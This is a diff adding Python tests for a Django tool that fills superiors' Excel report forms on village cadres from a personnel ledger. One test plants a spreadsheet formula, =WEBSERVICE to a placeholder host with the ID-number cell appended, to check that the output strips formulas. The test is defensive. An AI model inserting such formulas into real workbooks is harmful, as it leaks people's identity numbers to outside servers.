@@ -1,0 +1,287 @@
+"""按上级表样导出: a superior's empty form comes back in its own layout, filled from the ledger."""
+
+import datetime
+import io
+import re
+
+import openpyxl
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
+from django.urls import reverse
+from openpyxl.styles import Border, Font, PatternFill, Side
+
+from core.models import AuditEntry
+from rosters.models import SuperiorForm
+from tests import factories
+from tests.rosters import county
+from tests.rosters.test_collection import OTHER, clerk_client, staff
+from tests.rosters.workbooks import xls, xlsx
+
+__all__ = ["staff"]  # a fixture
+pytestmark = pytest.mark.django_db
+
+THIN = Border(*[Side(style="thin")] * 4)
+HEADER = ("序号", "乡镇", "行政村", "姓名", "身份证号码", "职务", "年龄", "联系电话", "银行卡号")
+
+
+def form(rows=3, header=HEADER, sheets=("附件1",), edit=None):
+    """A superior's form: a merged title, a header, `rows` empty rows of data, a merged line of signatures."""
+    book = openpyxl.Workbook()
+    book.remove(book.active)
+    for name in sheets:
+        sheet = book.create_sheet(name)
+        sheet["A1"] = "全市村（社区）干部情况统计表"
+        sheet.merge_cells("A1:I1")
+        sheet["A1"].font = Font(bold=True, size=20)
+        for column, text in enumerate(header, 1):
+            sheet.cell(2, column, text).fill = PatternFill("solid", fgColor="FFDDEEFF")
+        for row in range(3, 3 + rows):
+            for column in range(1, len(header) + 1):
+                sheet.cell(row, column).border = THIN
+            sheet.row_dimensions[row].height = 31
+        foot = 3 + rows
+        sheet.cell(foot, 1, "填表人：        审核人：        填表日期：")
+        sheet.merge_cells(start_row=foot, end_row=foot, start_column=1, end_column=len(header))
+        sheet.row_dimensions[foot].height = 44
+        sheet.column_dimensions["E"].width = 27
+        sheet.print_area = f"A1:I{foot}"
+    if edit:
+        edit(book)
+    output = io.BytesIO()
+    book.save(output)
+    return output.getvalue()
+
+
+def people(count, village="350723101201", **fields):
+    """Village committee members with phones; returns them by name."""
+    made = {}
+    for number in range(count):
+        someone = factories.person(f"成员{number:02}", village=village, phone=f"1390000{number:04}", **fields)
+        factories.appointment(person=someone, village=village, post="village_committee_member")
+        made[someone.name] = someone
+    return made
+
+
+def upload(client, content, name="市委组织部表样.xlsx", **more):
+    return client.post(reverse("superior_upload"), {"file": SimpleUploadedFile(name, content), **more})
+
+
+def fill(client, content, name="市委组织部表样.xlsx", **given):
+    """The filled workbook."""
+    answer = upload(client, content, name)
+    assert answer.status_code == 302, answer.content.decode()
+    done = client.post(answer["Location"], {"reason": "报市委组织部"} | given)
+    assert done.status_code == 200, done.content.decode()
+    return openpyxl.load_workbook(io.BytesIO(done.content))
+
+
+def test_the_form_comes_back_filled_in_its_own_layout(staff, client):
+    made = people(5)
+
+    sheet = fill(client, form(rows=3))["附件1"]
+
+    assert sheet["A1"].value == "全市村（社区）干部情况统计表"
+    assert sheet["A1"].font.size == 20
+    assert [cell.value for cell in sheet[2]] == list(HEADER)
+    assert sheet.column_dimensions["E"].width == 27
+    rows = list(sheet.iter_rows(min_row=3, max_row=7, values_only=True))
+    assert [row[0] for row in rows] == [1, 2, 3, 4, 5]
+    assert {row[3]: row[4] for row in rows} == {name: person.id_number for name, person in made.items()}
+    assert {row[8] for row in rows} == {None}
+    assert [sheet.cell(row, 5).number_format for row in range(3, 8)] == ["@"] * 5
+    assert [sheet.cell(row, 5).data_type for row in range(3, 8)] == ["s"] * 5
+    assert [sheet.cell(row, 9).border.left.style for row in range(3, 8)] == ["thin"] * 5
+    assert [sheet.row_dimensions[row].height for row in range(3, 8)] == [31] * 5
+
+
+def test_what_stands_below_moves_down_with_its_merge_and_height(staff, client):
+    people(5)
+
+    sheet = fill(client, form(rows=3))["附件1"]
+
+    assert sheet["A8"].value.startswith("填表人：")
+    assert {found.coord for found in sheet.merged_cells.ranges} == {"A1:I1", "A8:I8"}
+    assert sheet.row_dimensions[8].height == 44
+    assert sheet.print_area.endswith("$I$8")
+
+
+def test_a_form_with_room_keeps_its_rows(staff, client):
+    people(2)
+
+    sheet = fill(client, form(rows=4))["附件1"]
+
+    assert sheet["A7"].value.startswith("填表人：")
+    assert sheet["D5"].value is None
+
+
+def test_known_things_that_we_keep_otherwise_are_derived(staff, client):
+    someone = factories.person(
+        "张三", village="350723101201", political_status="party_member",
+        id_number=factories.id_number(datetime.date(1980, 5, 6)),
+    )  # fmt: skip
+    for post in ("party_secretary", "village_director"):
+        factories.appointment(person=someone, village="350723101201", post=post)
+    header = ("姓名", "年龄", "是否党员", "党组织职务", "村委会职务", "是否一肩挑", "是否交叉任职", "身份证号")
+
+    sheet = fill(client, form(header=header), division=county.TOWNSHIP)["附件1"]
+
+    row = [cell.value for cell in sheet[3]]
+    age = (datetime.date.today() - datetime.date(1980, 5, 6)).days // 365.2425
+    assert row[:7] == ["张三", age, "是", "党组织书记", "村委会主任", "是", "是"]
+
+
+def test_columns_are_shown_with_their_reason_and_what_stays_empty(staff, client):
+    html = client.get(upload(client, form())["Location"]).content.decode()
+
+    assert "表头“身份证号码”" in html
+    assert "1 列留空" in html
+    assert "I 银行卡号" in html
+    assert '<option value="id_number" selected>' in html
+
+
+def test_a_column_can_be_corrected(staff, client):
+    people(1, remarks="备注在此")
+
+    sheet = fill(client, form(), **{"column-0-I": "remarks", "column-0-H": ""})["附件1"]
+
+    assert sheet["I3"].value == "备注在此"
+    assert sheet["H3"].value is None
+
+
+def test_a_field_nobody_knows_leaves_the_column_empty(staff, client):
+    people(1)
+
+    assert fill(client, form(), **{"column-0-H": "password"})["附件1"]["H3"].value is None
+
+
+def test_a_sheet_per_township_gets_its_own_people(staff, client):
+    people(2, village="350723101201")
+    people(1, village="350723102201")
+
+    book = fill(client, form(sheets=("寨里镇", "止马镇", "汇总")))
+
+    names = {
+        name: [row[3] for row in book[name].iter_rows(min_row=3, max_row=4, values_only=True)]
+        for name in book.sheetnames
+    }
+    assert names == {"寨里镇": ["成员00", "成员01"], "止马镇": ["成员00", None], "汇总": [None, None]}
+
+
+def test_a_clerk_fills_with_their_own_people_only(staff, client):
+    people(1, village="350723102201")
+    mine = people(1, village="350723101201")
+
+    sheet = fill(clerk_client(), form(), division=OTHER)["附件1"]
+
+    assert sheet["E3"].value == mine["成员00"].id_number
+    assert sheet["E4"].value is None
+
+
+def test_an_xls_form_comes_back_as_xlsx(staff, client):
+    made = people(4)
+    rows = [["全市干部表", *[None] * 8], list(HEADER), [None] * 9, ["填表人：", *[None] * 8]]
+
+    sheet = fill(client, xls(rows, merges=[(0, 0, 0, 8)]), "表样.xls").worksheets[0]
+
+    assert "A1:I1" in {found.coord for found in sheet.merged_cells.ranges}
+    assert sheet["E3"].value in {person.id_number for person in made.values()}
+    assert sheet["A7"].value == "填表人："
+
+
+def test_an_example_in_the_form_gives_way(staff, client):
+    people(1)
+
+    def example(book):
+        sheet = book["附件1"]
+        for column, value in enumerate(
+            (1, "某镇", "某村", "某某某", "350723199001010011", "村委委员", 30, "13900000000", "6217"), 1
+        ):
+            sheet.cell(3, column, value)
+            sheet.cell(4, column, value)
+
+    text = [cell.value for row in fill(client, form(edit=example))["附件1"].iter_rows() for cell in row]
+
+    assert "某某某" not in text
+    assert "6217" not in [str(value) for value in text]
+
+
+def test_formulas_and_links_of_the_form_are_not_given_back(staff, client):
+    people(1)
+
+    def evil(book):
+        book["附件1"]["I3"] = '=WEBSERVICE("http://example.org/"&E3)'
+        book["附件1"]["K1"] = "=1+1"
+
+    book = fill(client, form(edit=evil))
+
+    assert "f" not in {cell.data_type for row in book["附件1"].iter_rows() for cell in row}
+
+
+def test_text_that_looks_like_a_formula_stays_text(staff, client):
+    people(1, remarks="=1+1")
+
+    cell = fill(client, form(), **{"column-0-I": "remarks"})["附件1"]["I3"]
+
+    assert (cell.value, cell.data_type) == ("=1+1", "s")
+
+
+def test_it_needs_a_reason_and_goes_into_the_log(staff, client):
+    people(2)
+    page = upload(client, form())["Location"]
+
+    refused = client.post(page, {"reason": " "})
+    assert refused.status_code == 400
+    assert "请写明用途" in refused.content.decode()
+    assert not AuditEntry.objects.filter(verb="export").exists()
+    client.post(page, {"reason": "报市委组织部"})
+
+    line = AuditEntry.objects.get(verb="export")
+    assert (line.reason, line.after) == ("报市委组织部", {"rows": 2})
+
+
+def test_pages_show_no_whole_number(staff, client):
+    people(2)
+    given = xlsx([["身份证号350723197710031862"], ["村", "姓名", "身份证号", "职务", "电话13900001111"]])
+
+    html = client.get(upload(client, given)["Location"]).content.decode()
+
+    assert not re.search(r"[0-9]{17}[0-9Xx]|(?<![0-9])1[3-9][0-9]{9}(?![0-9])", html)
+
+
+@pytest.mark.parametrize("content", [b"no workbook", b"", xlsx([["天气", "温度"], ["晴", 20]])])
+def test_what_is_no_form_is_told(staff, client, content):
+    answer = upload(client, content)
+
+    assert answer.status_code == 400
+    assert 'class="note bad"' in answer.content.decode()
+    assert not SuperiorForm.objects.exists()
+
+
+def test_a_neighbours_form_does_not_exist(staff, client):
+    theirs = upload(clerk_client(OTHER), form())["Location"]
+
+    assert clerk_client().get(theirs).status_code == 404
+    assert client.get(theirs).status_code == 200
+
+
+def test_a_form_goes_when_its_day_has_come(staff, client):
+    upload(client, form())
+    SuperiorForm.objects.update(expires_at=datetime.date(2020, 1, 1))
+
+    call_command("purge_uploads", stdout=io.StringIO())
+
+    assert not SuperiorForm.objects.exists()
+
+
+def test_a_filled_form_reads_back_as_unchanged(staff, client):
+    people(5, ethnicity="汉族")
+    answer = upload(
+        client, form(header=("序号", "乡镇", "村", "姓名", "民族", "身份证号", "职务", "任现职时间", "联系电话"))
+    )
+    done = client.post(answer["Location"], {"reason": "x"}).content
+
+    client.post(reverse("roster_upload"), {"kind": "committee", "file": SimpleUploadedFile("x.xlsx", done)})
+
+    kept = staff.uploads.get()
+    assert (kept.counts["unchanged"], kept.counts["error"], kept.writes) == (5, 0, 0)
